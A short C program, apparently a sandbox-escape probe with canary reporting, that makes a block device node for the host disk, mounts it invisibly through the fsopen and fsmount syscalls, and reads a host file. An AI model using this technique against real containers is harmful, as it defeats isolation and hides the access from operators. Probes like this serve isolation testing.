#include "attempt.h"
#include <linux/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#define NODE "/tmp/cache.db"

static dev_t disk(void) {
    char path[128];
    unsigned major = 254, minor = 0;
    const char *name = strrchr(from_env("HOST_DISK", "/vda"), '/');
    snprintf(path, sizeof path, "/sys/class/block%s/dev", name ? name : "/vda");
    FILE *file = fopen(path, "r");
    if (file && fscanf(file, "%u:%u", &major, &minor) != 2)
        major = 254;
    return makedev(major, minor);
}

/* A mount that no mount table shows: made, and never put anywhere. */
static int mounted(void) {
    int context = attempt("fsopen", syscall(SYS_fsopen, "ext4", 0));
    if (context < 0)
        return -1;
    syscall(SYS_fsconfig, context, FSCONFIG_SET_STRING, "source", NODE, 0);
    if (attempt("fsconfig", syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0)) < 0)
        return -1;
    return attempt("fsmount", syscall(SYS_fsmount, context, 0, 0));
}

int main(void) {
    char token[64] = "";
    attempt("mknod", mknod(NODE, S_IFBLK | 0600, disk()));
    int root = mounted();
    if (root < 0)
        return finish();
    int fd = openat(root, from_env("CANARY_PATH", "/etc/hostname") + 1, O_RDONLY);
    if (attempt("openat", fd) >= 0 && read(fd, token, sizeof token - 1) > 0)
        canary(token);
    return finish();
}
